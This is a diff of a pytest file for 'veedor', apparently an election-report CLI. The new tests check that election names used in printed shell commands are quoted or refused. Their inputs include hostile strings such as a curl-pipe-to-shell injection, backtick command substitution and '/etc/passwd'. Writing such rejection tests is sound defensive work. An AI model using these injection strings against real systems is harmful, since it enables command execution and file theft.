@@ -1,6 +1,8 @@
 """veedor report, verify and demo as a person calls them."""
 
 import json
+import shlex
+import shutil
 from pathlib import Path
 
 import pytest
@@ -8,6 +10,7 @@ import typer
 from typer.testing import CliRunner
 
 from veedor.cli import report
+from veedor.dossier.manifest import is_name_in_commands, name_in_commands
 from veedor.errors import MissingDataError, VeedorError
 
 RUNNER = CliRunner()
@@ -20,8 +23,10 @@ def app() -> typer.Typer:
     return made
 
 
+@pytest.mark.slow
 def test_report_then_verify_from_where_the_manifest_says(app: typer.Typer, simulated: Path, tmp_path: Path) -> None:
     out = tmp_path / "site"
+    simulated = Path(shutil.copytree(simulated, tmp_path / "election"))
     made = RUNNER.invoke(app, ["report", str(simulated), "--data", str(simulated), "--out", str(out), "--json"])
     assert made.exit_code == 0, made.output
     summary = json.loads(made.stdout)
@@ -38,6 +43,53 @@ def test_report_then_verify_from_where_the_manifest_says(app: typer.Typer, simul
     listed = RUNNER.invoke(app, ["verify", str(out), "--json"])
     assert listed.exit_code == 1
     assert [one["file"] for one in json.loads(listed.stdout)["differences"]] == ["en/index.html"]
+
+
+def test_where_the_raw_files_lie_elsewhere_the_command_that_is_printed_says_so(
+    app: typer.Typer, simulated: Path, tmp_path: Path
+) -> None:
+    out = tmp_path / "site"
+    made = RUNNER.invoke(app, ["report", str(simulated), "--data", str(simulated), "--out", str(out)])
+    command = made.stdout.splitlines()[-1].removeprefix("check it with: ")
+    assert command == f"veedor verify {out} --data {simulated}"
+    asked = RUNNER.invoke(app, ["verify", str(out)])
+    assert isinstance(asked.exception, VeedorError)
+    assert f"leads out of {tmp_path}; say where with --data DIR" in str(asked.exception)
+    assert RUNNER.invoke(app, shlex.split(command)[1:]).exit_code == 0
+
+
+@pytest.mark.parametrize("name", ["-x", "--json", "a\u202eb", "a\nb", "\x1b[2J", "/etc/passwd"])
+def test_commands_on_the_pages_name_the_election_by_one_word(name: str) -> None:
+    assert name_in_commands(name) == "election.toml"
+    assert [name_in_commands(one) for one in ("town", "my town", "a;b", "Potosí")] == [
+        "town",
+        "'my town'",
+        "'a;b'",
+        "'Potosí'",
+    ]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "x; curl http://127.0.0.1/evil | sh #",
+        "--data=/etc",
+        "/etc/passwd",
+        "'town\nveedor: all the same'",
+        "'town",
+        "town --skip-bad-rows",
+        "$HOME",
+        "`id`",
+        "town#x",
+        '"town"',
+        "",
+        "''",
+        "'a\u200bb'",
+        "~/x",
+    ],
+)
+def test_verify_takes_no_other_text_for_the_name_of_an_election(text: str) -> None:
+    assert not is_name_in_commands(text)
 
 
 def test_a_path_of_this_machine_is_not_written_into_the_pages(
@@ -68,6 +120,7 @@ def test_a_folder_of_other_files_is_refused_before_anything_is_read(app: typer.T
     assert "not a dossier" in str(made.exception)
 
 
+@pytest.mark.slow
 def test_the_demo_needs_no_data_and_says_what_to_open(
     app: typer.Typer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
